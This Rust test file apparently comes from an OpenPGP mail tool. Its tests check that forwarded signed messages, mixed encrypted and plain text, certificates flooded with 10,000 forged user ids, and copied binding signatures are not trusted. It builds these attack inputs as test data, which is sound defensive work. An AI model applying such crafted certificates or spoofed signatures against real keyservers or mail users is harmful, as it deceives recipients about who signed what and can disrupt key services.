    let forward = format!("Content-Type: message/rfc822\r\n\r\n{}", inner.trim_end());
    let message = letter(
        "mallory@sealpost.example",
        BOB,
        "fwd",
        &mime::mixed(&[&mime::text("see below\n"), &forward]),
    );
    let opened = it.bob.open(&message).unwrap();
    assert_eq!(opened["summary"]["signed"], "none", "{}", shorten(&opened));
    let part = opened["parts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["protection"]["signed"] == "good")
        .expect("judged against its own From");
    assert!(part["id"].is_string());
}

#[test]
fn several_blocks_in_one_text() {
    let mut it = pair("compatible");
    let one = mime::block(&sealed(&mut it, true, true, "inline"));
    let wrap = |text: &str| letter(ALICE, BOB, "blocks", &mime::text(text));
    let opened = it.bob.open(&wrap(&one)).unwrap();
    assert_eq!(opened["summary"]["signed"], "good", "{}", shorten(&opened));
    assert_eq!(opened["summary"]["encrypted"], "whole");
    for text in [
        format!("{one}\n{one}"),
        format!("before\n{one}"),
        format!("{one}\nbehind"),
    ] {
        let opened = it.bob.open(&wrap(&text)).unwrap();
        assert_eq!(
            opened["summary"]["encrypted"],
            "part",
            "{}",
            shorten(&opened)
        );
        assert_ne!(opened["summary"]["signed"], "good");
        for part in opened["parts"].as_array().unwrap() {
            let body = String::from_utf8_lossy(&it.bob.bytes(&part["body"])).into_owned();
            let outside = body.contains("before") || body.contains("behind");
            assert!(
                !(outside && part["protection"]["encrypted"] == true),
                "{body}"
            );
        }
    }
}

#[test]
fn certificates_by_the_thousand_ids() {
    // A certificate whose user ids nobody bound names nobody.
    use sequoia_openpgp::parse::Parse;
    let mut it = pair("compatible");
    let mut packets = split(&{
        let id = it.alice_id.clone();
        let cert = export(&mut it.alice, &[&id]);
        assert!(sequoia_openpgp::Cert::from_bytes(cert.as_bytes()).is_ok());
        dearmor(cert.as_bytes())
    });
    for n in 0..10_000 {
        packets.push(Packet {
            tag: 13,
            body: format!("Mallory {n} <m{n}@evil.example>").into_bytes(),
        });
    }
    let home = Home::new();
    let mut host = home.start();
    let reply = host.call(
        "keys/import",
        json!({"data": {"text": armor(&join(&packets), "PUBLIC KEY BLOCK")}, "accept": true}),
    );
    match reply {
        Err(fault) => typed(&fault, "a flood of user ids"),
        Ok(_) => {
            let shown = host.good("keys/show", json!({"id": it.alice_id}));
            assert_eq!(shown["key"]["addresses"], json!([ALICE]));
            let found = host.good("keys/list", json!({"query": "evil.example"}));
            assert_eq!(found["keys"], json!([]));
        }
    }
}

#[test]
fn a_copied_binding_binds_nothing() {
    let mut it = pair("compatible");
    let id = it.alice_id.clone();
    let cert = export(&mut it.alice, &[&id]);
    let mut packets = split(&dearmor(cert.as_bytes()));
    let user = packets.iter().position(|p| p.tag == 13).unwrap();
    let binding = packets[user + 1].clone();
    packets.insert(
        user + 2,
        Packet {
            tag: 13,
            body: b"Alice <carol@sealpost.example>".to_vec(),
        },
    );
    packets.insert(user + 3, binding);
    let home = Home::new();
    let mut host = home.start();
    import(
        &mut host,
        armor(&join(&packets), "PUBLIC KEY BLOCK").as_bytes(),
        Value::Null,
    );
    let shown = host.good("keys/show", json!({"id": id}));
    assert_eq!(shown["key"]["addresses"], json!([ALICE]));
}
